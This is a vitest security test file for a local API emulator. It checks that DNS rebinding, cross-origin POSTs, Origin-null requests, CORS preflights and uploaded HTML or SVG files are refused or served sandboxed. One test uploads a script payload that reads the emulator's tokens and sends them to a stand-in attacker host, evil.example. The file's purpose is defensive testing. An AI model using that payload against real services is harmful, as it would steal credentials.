// The emulator as a web page sees it (docs/emulator.md "Security"): the requests a page in the
// user's browser can make, sent over real HTTP — DNS rebinding (a foreign Host), cross-origin
// simple POSTs (text/plain, forms, no preflight), Origin null from a sandboxed page, a browser's
// Sec-Fetch-Site, CORS preflights — and the files the emulator serves that others wrote. Each is
// refused before anything is read or changed, and no answer carries a CORS header.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { DEMO_TOKENS } from '../../src/emulator/index.js';
import { type Harness, harness, type RawAnswer, send } from './helpers.js';

let h: Harness;
let port: string;
const ORIGIN = () => `http://127.0.0.1:${port}`;

beforeAll(async () => {
  h = await harness({ port: 0 });
  port = new URL(h.emu.baseUrl).port;
});
beforeEach(() => h.emu.control.reset());
afterAll(() => h.close());

/** A request with the headers a browser (or an attacker's script) would send. */
const raw = (path: string, headers: Record<string, string>, verb = 'GET', body?: string) =>
  send(h.emu.baseUrl, path, { verb, headers, body, token: null });

/** The state as saved, to compare before and after a refused request. */
const snapshot = () => JSON.stringify(h.emu.emulator.state);

function noCors(res: RawAnswer): void {
  expect(Object.keys(res.headers).filter((k) => k.startsWith('access-control-'))).toEqual([]);
}

describe('DNS rebinding: a Host that does not name loopback', () => {
  /** Hosts a page's request may carry: its own name (rebound to 127.0.0.1), or another port. */
  const foreign: Array<[string, (port: string) => string]> = [
    ['a foreign name', () => 'evil.example'],
    ['a foreign name with the port', (p) => `evil.example:${p}`],
    ['a name that starts like loopback', (p) => `127.0.0.1.evil.example:${p}`],
    ['localhost with a trailing dot', (p) => `localhost.:${p}`],
    ['another port', (p) => `127.0.0.1:${Number(p) + 1}`],
    ['no port', () => '127.0.0.1'],
    ['another IPv6 address', (p) => `[::2]:${p}`],
    ['credentials', (p) => `user@127.0.0.1:${p}`],
  ];
  const paths = ['/_emulator/tokens', '/_emulator/state', '/v1/tools', '/sites/site_bakery/', '/storage/site_bakery/x'];

  it.each(foreign)('%s is answered 421, reading nothing', async (_what, hostOf) => {
    const host = hostOf(port);
    for (const path of paths) {
      const res = await raw(path, { host });
      expect(res.status, `${host} ${path}`).toBe(421);
      expect(res.text).not.toContain(DEMO_TOKENS.full);
      expect(res.body.data.reason).toBe('host-not-loopback');
      noCors(res);
    }
    const list = await send(h.emu.baseUrl, '/v1/list_workspaces', {
      body: {},
      token: DEMO_TOKENS.full,
      headers: { host },
    });
    expect(list.status).toBe(421);
    const reset = await send(h.emu.baseUrl, '/_emulator/reset', {
      body: { seed: false },
      token: null,
      headers: { host },
    });
    expect(reset.status).toBe(421);
    expect(h.emu.state.core.sites.length).toBeGreaterThan(0);
  });

  it('loopback names with the port are answered', async () => {
    for (const host of [
      `127.0.0.1:${port}`,
      `localhost:${port}`,
      `LOCALHOST:${port}`,
      `[::1]:${port}`,
      `127.1.2.3:${port}`,
    ]) {
      const res = await raw('/_emulator/shapes', { host });
      expect(res.status, host).toBe(200);
    }
  });
});

describe('a page of another origin', () => {
  it('cannot wipe the state with a text/plain POST to /_emulator/reset', async () => {
    await h.control('POST', 'workspaces/ws_demo/sites', { count: 2 });
    const before = snapshot();
    for (const headers of [
      { origin: 'https://evil.example', 'content-type': 'text/plain;charset=UTF-8' },
      { origin: 'null', 'content-type': 'text/plain' },
      { 'content-type': 'text/plain' },
      { 'content-type': 'application/x-www-form-urlencoded' },
      { 'content-type': 'multipart/form-data; boundary=x' },
      { 'content-type': '' },
    ]) {
      const res = await raw('/_emulator/reset', headers as Record<string, string>, 'POST', '{"seed":false}');
      expect([403, 415], JSON.stringify(headers)).toContain(res.status);
      noCors(res);
    }
    expect(snapshot()).toBe(before);
  });

  it('cannot create a token, zero the credits or inject a fault', async () => {
    const before = snapshot();
    const attempts: Array<[string, string]> = [
      ['/_emulator/tokens', '{"token":"sbt_chosen_by_the_page_0000000"}'],
      ['/_emulator/workspaces/ws_demo', '{"credits":0}'],
      ['/_emulator/faults', '{"method":"*","status":500,"times":1000}'],
      ['/_emulator/budget', '{"callsPerMinute":1}'],
      ['/_emulator/clock', '{"advanceMs":1e12}'],
    ];
    for (const [path, body] of attempts) {
      for (const origin of [
        'https://evil.example',
        'null',
        `http://localhost:${Number(port) + 1}`,
        `https://127.0.0.1:${port}`,
      ]) {
        const res = await raw(path, { origin, 'content-type': 'application/json' }, 'POST', body);
        expect(res.status, `${path} from ${origin}`).toBe(403);
        expect(res.body.data.reason).toBe('foreign-origin');
      }
      const plain = await raw(path, { 'content-type': 'text/plain' }, 'POST', body);
      expect(plain.status).toBe(415);
    }
    expect(snapshot()).toBe(before);
    expect(h.emu.control.faults()).toEqual([]);
    expect(h.emu.control.budget().callsPerMinute).toBe(240);
  });

  it('cannot read the tokens, in a rebinding-free cross-site fetch either', async () => {
    for (const headers of [
      { origin: 'https://evil.example' } as Record<string, string>,
      { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors' },
      { 'sec-fetch-site': 'same-site', 'sec-fetch-mode': 'cors' },
    ]) {
      const res = await raw('/_emulator/tokens', headers);
      expect(res.status).toBe(403);
      expect(res.text).not.toContain(DEMO_TOKENS.full);
      noCors(res);
    }
  });

  it('cannot trigger a deploy hook or call a method', async () => {
    const before = snapshot();
    const hook = await raw(
      '/hooks/deploy/hook_bakery_cms',
      { origin: 'https://evil.example', 'content-type': 'text/plain' },
      'POST',
      '{}',
    );
    expect(hook.status).toBe(403);
    const call = await send(h.emu.baseUrl, '/v1/list_workspaces', {
      body: {},
      token: DEMO_TOKENS.full,
      headers: { origin: 'https://evil.example' },
    });
    expect(call.status).toBe(403);
    expect(snapshot()).toBe(before);
  });

  it('gets no CORS header on a preflight or anywhere else', async () => {
    const preflight = await raw(
      '/_emulator/reset',
      {
        origin: 'https://evil.example',
        'access-control-request-method': 'POST',
        'access-control-request-headers': 'content-type',
      },
      'OPTIONS',
    );
    expect(preflight.status).toBeGreaterThanOrEqual(400);
    noCors(preflight);
    for (const path of ['/_emulator/tokens', '/v1/tools', '/sites/site_bakery/', '/nothing'])
      noCors(await raw(path, {}));
  });

  it('its own origin, and clients that send none, are answered', async () => {
    expect((await raw('/_emulator/shapes', { origin: ORIGIN(), 'sec-fetch-site': 'same-origin' })).status).toBe(200);
    expect((await h.control('POST', 'budget', { callsPerMinute: 100 })).status).toBe(200);
    // A link followed from another site to a published page is a navigation: it is shown.
    const page = await raw('/sites/site_bakery/', { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate' });
    expect([200, 404]).toContain(page.status);
  });
});

describe('files others wrote, served from the emulator’s origin', () => {
  const upload = async (fileName: string, content: string, contentType?: string) => {
    const res = await h.call('upload_storage_file', {
      projectId: 'site_bakery',
      fileName,
      contentBase64: Buffer.from(content).toString('base64'),
      ...(contentType ? { contentType } : {}),
    });
    expect(res.status).toBe(200);
    return new URL(res.body.data.url).pathname;
  };

  it('an uploaded page.html is a sandboxed download, never a page of this origin', async () => {
    const script =
      '<script>fetch("/_emulator/tokens").then(r=>r.text()).then(t=>fetch("https://evil.example/?"+t))</script>';
    for (const [name, type] of [
      ['page.html', undefined],
      ['page.htm', 'text/html; charset=utf-8'],
      ['image.svg', 'image/svg+xml'],
      ['page.xhtml', 'application/xhtml+xml'],
      ['data.xml', 'text/xml'],
      ['innocent.txt', 'text/html'],
      ['unknown.bin', 'application/x-whatever'],
    ] as const) {
      const path = await upload(name, script, type);
      const res = await raw(path, {});
      expect(res.status).toBe(200);
      expect(res.headers['content-security-policy'], name).toBe('sandbox');
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['content-disposition'], name).toMatch(/^attachment; filename\*=UTF-8''/);
    }
  });

  it('a passive file is shown inline, sandboxed all the same', async () => {
    const path = await upload('notes.txt', 'Opening hours');
    const res = await raw(path, {});
    expect(res.headers['content-security-policy']).toBe('sandbox');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-disposition']).toBeUndefined();
  });

  it('a published page runs in an opaque origin: what it sends carries Origin null, which is refused', async () => {
    const pub = await h.call('publish_site', { projectId: 'site_bakery' });
    expect(pub.status).toBeLessThan(300);
    h.emu.emulator.clock.advance(60_000);
    const page = await raw('/sites/site_bakery/', {});
    expect(page.status).toBe(200);
    expect(page.headers['content-security-policy']).toMatch(/^sandbox\b/);
    expect(page.headers['content-security-policy']).not.toContain('allow-same-origin');
    expect(page.headers['x-content-type-options']).toBe('nosniff');
    const fromPage = await raw('/_emulator/tokens', { origin: 'null' });
    expect(fromPage.status).toBe(403);
  });

  it('every JSON answer says nosniff', async () => {
    for (const path of ['/_emulator/tokens', '/v1/tools', '/nothing'])
      expect((await raw(path, {})).headers['x-content-type-options']).toBe('nosniff');
  });
});

describe('a control secret', () => {
  let guarded: Harness;
  beforeAll(async () => {
    guarded = await harness({ port: 0, controlSecret: 'a-secret-of-thirty-two-characters' });
  });
  afterAll(() => guarded.close());

  it('is needed on every control request, and on nothing else', async () => {
    const base = guarded.emu.baseUrl;
    for (const secret of [undefined, 'wrong', 'a-secret-of-thirty-two-characterz']) {
      const headers: Record<string, string> = secret ? { 'x-emulator-secret': secret } : {};
      const read = await send(base, '/_emulator/tokens', { headers, token: null });
      expect(read.status).toBe(401);
      expect(read.text).not.toContain(DEMO_TOKENS.full);
      const reset = await send(base, '/_emulator/reset', { body: { seed: false }, headers, token: null });
      expect(reset.status).toBe(401);
    }
    expect(guarded.emu.state.core.sites.length).toBeGreaterThan(0);
    const ok = await send(base, '/_emulator/tokens', {
      headers: { 'x-emulator-secret': 'a-secret-of-thirty-two-characters' },
      token: null,
    });
    expect(ok.status).toBe(200);
    expect((await guarded.call('list_workspaces')).status).toBe(200);
  });
});
